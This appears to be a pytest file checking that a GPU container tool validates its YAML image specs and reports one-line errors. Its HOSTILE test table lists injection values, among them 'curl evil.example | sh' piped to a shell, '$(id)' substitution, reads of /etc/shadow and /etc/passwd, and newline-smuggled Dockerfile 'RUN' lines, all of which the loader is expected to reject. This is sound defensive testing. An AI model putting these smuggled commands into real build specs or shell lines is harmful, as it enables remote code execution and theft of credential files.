"""Loading images/*.yaml: the shipped spec, and every kind of invalid input with its one-line message."""

import json
import textwrap
from pathlib import Path

import pytest

from gpurig.errors import CompatError, SpecError
from gpurig.image.aliases import alias_refs, aliases_left
from gpurig.image.spec import MatrixEntry, find_specs, load_spec

ROOT = Path(__file__).resolve().parents[2]

MINIMAL = """
name: pytorch
python: "3.11"
matrix:
  - {torch: "2.9.1", cuda: "12.8"}
"""


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "spec.yaml"
    path.write_text(textwrap.dedent(text))
    return path


def test_the_shipped_spec_loads_with_all_variants_and_a_default():
    spec = load_spec(ROOT / "images" / "pytorch.yaml")
    assert set(spec.variants) == {"slim", "ssh", "jupyter", "full"}
    assert spec.default == MatrixEntry("2.14.1", "13.0")
    assert spec.image_ref(spec.default, "slim") == "pytorch:2.14.1-cu130-slim"
    assert "jupyterlab" in spec.variants["full"].pip and "gpustat" in spec.variants["full"].pip
    assert "openssh-server" in spec.variants["ssh"].apt
    assert spec.variants["slim"].apt == () and spec.variants["slim"].pip == ()


def test_minimal_spec_gets_defaults(tmp_path):
    spec = load_spec(write(tmp_path, MINIMAL))
    assert spec.default == MatrixEntry("2.9.1", "12.8")
    assert spec.base == "debian:bookworm-slim"
    assert spec.user.name == "gpurig" and spec.user.uid == 1000
    assert set(spec.variants) == {"slim", "ssh", "jupyter", "full"}


def test_spec_objects_are_frozen(tmp_path):
    spec = load_spec(write(tmp_path, MINIMAL))
    with pytest.raises(AttributeError):
        spec.name = "other"


def test_registry_and_aliases_make_the_tags(tmp_path):
    spec = load_spec(
        write(tmp_path, MINIMAL + 'registry: "reg.example.com:5000/ml/"\nbuild: {aliases: ["{variant}", "cu{cuda}"]}\n')
    )
    assert spec.image_ref(spec.default, "ssh") == "reg.example.com:5000/ml/pytorch:2.9.1-cu128-ssh"
    assert alias_refs(spec, spec.default, "ssh") == (
        "reg.example.com:5000/ml/pytorch:ssh",
        "reg.example.com:5000/ml/pytorch:cu12.8",
    )


def aliased(tmp_path: Path, aliases: list[str], default: tuple[str, str], *others: tuple[str, str]):
    """A spec with these aliases and this matrix, its first entry the default."""
    rows = [f'{{torch: "{default[0]}", cuda: "{default[1]}", default: true}}'] + [f'{{torch: "{t}", cuda: "{c}"}}' for t, c in others]
    text = 'name: pytorch\npython: "3.11"\nmatrix: [' + ", ".join(rows) + "]\n" + f"build: {{aliases: {json.dumps(aliases)}}}\n"
    return load_spec(write(tmp_path, text))


def test_an_alias_several_entries_make_follows_the_default_entry_only(tmp_path):
    # seen: building the CPU slim moved pytorch:slim off the CUDA image, silently
    spec = aliased(tmp_path, ["{variant}", "{variant}-{cuda_tag}"], ("2.14.1", "13.0"), ("2.13.0", "cpu"))
    cuda, cpu = spec.matrix
    assert alias_refs(spec, cuda, "slim") == ("pytorch:slim", "pytorch:slim-cu130")
    assert alias_refs(spec, cpu, "slim") == ("pytorch:slim-cpu",)  # the tag only it makes is its own
    assert aliases_left(spec, cpu, "slim") == (
        "pytorch:slim stays on 2.14.1-cu130-slim: the alias {variant} is made by several matrix entries"
        " and follows the default one (torch 2.14.1 + CUDA 13.0)",
    )
    assert aliases_left(spec, cuda, "slim") == ()


def test_a_shared_alias_of_a_variant_the_default_cannot_build_follows_the_first_entry_that_can(tmp_path):
    spec = aliased(tmp_path, ["{variant}"], ("2.13.0", "cpu"), ("2.14.1", "13.0"), ("2.14.1", "12.6"))
    cpu, cu130, cu126 = spec.matrix
    assert alias_refs(spec, cpu, "slim") == ("pytorch:slim",) and alias_refs(spec, cu130, "slim") == ()
    assert alias_refs(spec, cu130, "full") == ("pytorch:full",) and alias_refs(spec, cu126, "full") == ()
    assert "follows the first buildable one (torch 2.14.1 + CUDA 13.0)" in aliases_left(spec, cu126, "full")[0]


def test_matrix_selection_by_torch_or_cuda(tmp_path):
    spec = load_spec(
        write(
            tmp_path,
            """
            name: p
            python: "3.11"
            matrix:
              - {torch: "2.9.1", cuda: "12.8"}
              - {torch: "2.9.1", cuda: "12.6", default: true}
              - {torch: "2.13.0", cuda: "cpu"}
            """,
        )
    )
    assert spec.entry() == MatrixEntry("2.9.1", "12.6")
    assert spec.entry(cuda="cpu") == MatrixEntry("2.13.0", "cpu")
    assert spec.entry(torch="2.9.1", cuda="12.8") == MatrixEntry("2.9.1", "12.8")
    with pytest.raises(SpecError, match="no matrix entry for torch=2.9.1 cuda=13.0"):
        spec.entry(torch="2.9.1", cuda="13.0")
    with pytest.raises(CompatError, match="torch 2.9 ships CUDA 12.6, 12.8, 13.0"):
        spec.entry(torch="2.9.1", cuda="11.8")


@pytest.mark.parametrize(
    "text,message",
    [
        ("", "spec.yaml is empty"),
        ("name: [unclosed\n", "malformed YAML"),
        ("- just\n- a list\n", "expected a mapping, got a list"),
        (MINIMAL + "variant: {}\n", "unknown key 'variant' (did you mean 'variants'?)"),
        (MINIMAL + "variants: {slimm: {}}\n", "variants: unknown key 'slimm' (did you mean 'slim'?)"),
        (MINIMAL + "variants: {slim: {pip: jupyterlab}}\n", "variants.slim.pip: expected a list, got a string"),
        (MINIMAL + "variants: {ssh: {ports: [22, 70000]}}\n", "variants.ssh.ports[1]: 70000 is out of range (1-65535)"),
        (MINIMAL + "build: {pip_indx: x}\n", "unknown key 'pip_indx' (did you mean 'pip_index'?)"),
        (MINIMAL + "build: {aliases: ['{arch}']}\n", "build.aliases[0]: '{arch}' uses an unknown field '{arch}'"),
        (MINIMAL + "user: {name: root}\n", "must not be root"),
        (MINIMAL + "user: {uid: 0}\n", "uid 0 is not a regular user id"),
        ('name: p\npython: "3.11"\n', "missing key 'matrix'"),
        ('name: p\npython: "3.11"\nmatrix: []\n', "matrix: expected a non-empty list"),
        ('name: p\npython: 3.10\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n', 'python: 3.1 is a number; fix: quote it'),
        ('name: P Q\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n', "name: 'P Q' is not an image name"),
        ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9", cuda: "12.8"}]\n', "matrix[0].torch: '2.9' is not a version X.Y.Z"),
        ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8", gpu: a100}]\n', "unknown key 'gpu'"),
        (
            'name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "11.8"}]\n',
            "matrix[0]: torch 2.9.1 has no wheel for CUDA 11.8; fix: torch 2.9 ships CUDA 12.6, 12.8, 13.0",
        ),
        (
            'name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8"}, {torch: "2.9.1", cuda: "12.8"}]\n',
            "matrix[1]: torch 2.9.1 + CUDA 12.8 is listed twice",
        ),
        (
            'name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8", default: true},'
            ' {torch: "2.9.1", cuda: "12.6", default: true}]\n',
            "a second default entry",
        ),
        (
            'name: p\npython: "3.12"\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n',
            "base debian:bookworm-slim installs Python 3.11, not 3.12",
        ),
        (
            'name: p\npython: "3.8"\nbase: {image: "ubuntu:20.04"}\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n',
            "torch 2.9.1 has no wheel for Python 3.8",
        ),
    ],
)
def test_invalid_specs_fail_with_one_line_naming_file_key_and_fix(tmp_path, text, message):
    path = write(tmp_path, text)
    with pytest.raises(SpecError) as err:
        load_spec(path)
    line = str(err.value)
    assert message in line
    assert "\n" not in line
    assert str(path) in line
    assert "; fix: " in line


def test_missing_spec_file_and_images_dir(tmp_path):
    with pytest.raises(SpecError, match="not found"):
        load_spec(tmp_path / "nope.yaml")
    with pytest.raises(SpecError, match="no images directory"):
        find_specs(tmp_path / "images")
    (tmp_path / "images").mkdir()
    with pytest.raises(SpecError, match="has no \\*.yaml image specs"):
        find_specs(tmp_path / "images")


def test_unknown_variant_lookup_suggests(tmp_path):
    spec = load_spec(write(tmp_path, MINIMAL))
    with pytest.raises(SpecError, match="unknown variant 'jupiter' \\(did you mean 'jupyter'\\?\\)"):
        spec.variant("jupiter")


# Values crafted to smuggle something into a Dockerfile or a pip/apt command line (issue 8, classes 2 and 5).
HOSTILE = {
    "port-bool": (MINIMAL + "variants: {ssh: {ports: [true]}}\n", ["variants.ssh.ports[0]", "whole number"]),
    "port-float": (MINIMAL + "variants: {ssh: {ports: [22.9]}}\n", ["variants.ssh.ports[0]", "whole number"]),
    "port-twice": (MINIMAL + "variants: {ssh: {ports: [22, 22]}}\n", ["variants.ssh.ports[1]", "listed twice"]),
    "uid-bool": (MINIMAL + "user: {uid: true}\n", ["user.uid", "not a regular user id"]),
    "uid-float": (MINIMAL + "user: {uid: 1000.0}\n", ["user.uid", "not a regular user id"]),
    "version-newline": ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1\\n", cuda: "12.8"}]\n', ["matrix[0].torch", "X.Y.Z"]),
    "python-newline": ('name: p\npython: "3.11\\n"\nmatrix: [{torch: "2.9.1", cuda: "12.8"}]\n', ["python:", "3.X"]),
    "default-string": ('name: p\npython: "3.11"\nmatrix: [{torch: "2.9.1", cuda: "12.8", default: "yes"}]\n', ["matrix[0].default", "true or false"]),
    "pip-option": (MINIMAL + "variants: {full: {pip: ['--index-url=https://evil.example/simple']}}\n", ["variants.full.pip[0]", "option"]),
    "pip-requirements-file": (MINIMAL + "variants: {full: {pip: ['-r /etc/shadow']}}\n", ["variants.full.pip[0]", "option"]),
    "pip-shell": (MINIMAL + "variants: {full: {pip: ['numpy; $(id)']}}\n", ["variants.full.pip[0]", "PEP 508"]),
    "pip-file-url": (MINIMAL + "variants: {full: {pip: ['x @ file:///etc/passwd']}}\n", ["variants.full.pip[0]", "not http(s)"]),
    "index-option": (MINIMAL + "build: {pip_index: '--extra-index-url=https://evil.example'}\n", ["build.pip_index"]),
    "extra-index-option": (MINIMAL + "build: {pip_extra_index: ['-r/etc/shadow']}\n", ["build.pip_extra_index[0]"]),
    "find-links-option": (MINIMAL + "build: {find_links: ['--index-url=https://evil.example']}\n", ["build.find_links[0]", "option"]),
    "apt-shell": (MINIMAL + "variants: {ssh: {apt: ['vim; curl evil.example | sh']}}\n", ["variants.ssh.apt[0]", "Debian package"]),
    "apt-option": (MINIMAL + "variants: {ssh: {apt: ['-oAPT::Update::Pre-Invoke::=id']}}\n", ["variants.ssh.apt[0]", "Debian package"]),
    "apt-twice": (MINIMAL + "variants: {ssh: {apt: [htop, htop]}}\n", ["variants.ssh.apt[1]", "listed twice (also at [0])"]),
    "mirror-sed-command": (MINIMAL + "build: {apt_mirror: 'http://m.example/debian#e touch /tmp/pwned'}\n", ["build.apt_mirror"]),
    "mirror-fragment": (MINIMAL + "build: {apt_mirror: 'http://m.example/debian#e'}\n", ["build.apt_mirror", "#fragment"]),
    "mirror-scheme": (MINIMAL + "build: {apt_mirror: 'file:///etc'}\n", ["build.apt_mirror", "http://"]),
    "registry-newline": (MINIMAL + 'registry: "reg.example.com\\nRUN id"\n', ["registry:", "not a registry"]),
    "base-newline": (MINIMAL + 'base: {image: "debian:bookworm-slim\\nRUN id"}\n', ["base.image", "image reference"]),
    "variant-base-quote": (MINIMAL + "variants: {slim: {base: 'debian\"x'}}\n", ["variants.slim.base", "image reference"]),
    "bootstrap-suite": (MINIMAL + "base: {image: 'debian:bookworm-slim', bootstrap: {suite: '-v; id'}}\n", ["base.bootstrap.suite"]),
    "syntax-newline": (MINIMAL + 'build: {syntax: "docker/dockerfile:1\\nRUN id"}\n', ["build.syntax", "image reference"]),
    "user-quote": (MINIMAL + "user: {name: \"gpu'rig\"}\n", ["user.name", "not a user name"]),
    "alias-width": (MINIMAL + "build: {aliases: ['{variant:>1500000000}']}\n", ["build.aliases[0]", "width"]),
    "alias-conversion": (MINIMAL + "build: {aliases: ['{variant!r}']}\n", ["build.aliases[0]", "conversion"]),
    "alias-attribute": (MINIMAL + "build: {aliases: ['{variant.__class__}']}\n", ["build.aliases[0]", "unknown field"]),
    "alias-brace": (MINIMAL + "build: {aliases: ['{variant']}\n", ["build.aliases[0]", "unbalanced"]),
    "alias-not-a-tag": (MINIMAL + "build: {aliases: ['{variant}/x']}\n", ["build.aliases[0]", "makes the tag 'slim/x'"]),
    "alias-too-long": (MINIMAL + "build: {aliases: ['" + "x" * 130 + "']}\n", ["build.aliases[0]", "valid image tag"]),
    "torch-index-width": (MINIMAL + "build: {torch_index: 'https://x.example/{cuda_tag:>1500000000}'}\n", ["build.torch_index", "width"]),
    "torch-index-field": (MINIMAL + "build: {torch_index: 'https://x.example/{torch}'}\n", ["build.torch_index", "unknown field"]),
    "index-credentials": (
        MINIMAL + "build: {pip_index: 'https://bob:s3cret@pypi.example.com/simple'}\n",
        ["build.pip_index", "user:password@"],
    ),
    "ca-bundle-csv": (MINIMAL + "build: {ca_bundle: '/tmp/x.pem,src=/etc/shadow'}\n", ["build.ca_bundle", "another field"]),
    "overlong": (MINIMAL + "build: {ca_bundle: '" + "a" * 5000 + "'}\n", ["build.ca_bundle", "5000 characters"]),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_values_are_refused_naming_key_and_rule(tmp_path, name):
    text, fragments = HOSTILE[name]
    path = write(tmp_path, text)
    with pytest.raises(SpecError) as err:
        load_spec(path)
    line = str(err.value)
    assert "\n" not in line and line.startswith(f"{path}: ") and "; fix: " in line
    for fragment in fragments:
        assert fragment in line
    assert "s3cret" not in line and len(line) < 400


def test_valid_values_of_every_kind_load(tmp_path):
    spec = load_spec(
        write(
            tmp_path,
            MINIMAL
            + "registry: 'reg.example.com:5000/ml/'\n"
            + "variants: {full: {pip: ['jupyterlab[full]>=4,<5', 'numpy; python_version >= \"3.10\"', 'x @ https://h.example/x.whl'],"
            + " apt: ['g++', 'libc6:amd64', 'python3=3.11.2-1+b1']}}\n"
            + "build: {torch_index: 'https://download.pytorch.org/whl/{cuda_tag}', aliases: ['{torch}-{cuda_tag}', 'latest-{variant}'],"
            + " ca_bundle: ~/certs/ca.pem, find_links: [/opt/wheels, 'https://h.example/links'], syntax: 'docker/dockerfile:1.7'}\n",
        )
    )
    assert spec.variants["full"].apt[-1] == "python3=3.11.2-1+b1"
    assert alias_refs(spec, spec.default, "full") == ("reg.example.com:5000/ml/pytorch:2.9.1-cu128", "reg.example.com:5000/ml/pytorch:latest-full")


def test_the_shipped_spec_shows_every_build_key_so_init_s_copy_names_them_all():
    import dataclasses

    from gpurig.image.spec import BuildSettings

    section = (ROOT / "images" / "pytorch.yaml").read_text().split("\nbuild:\n", 1)[1]
    shown = {line.strip().lstrip("# ").split(":", 1)[0] for line in section.splitlines() if line.startswith("  ")}
    assert {f.name for f in dataclasses.fields(BuildSettings)} <= shown
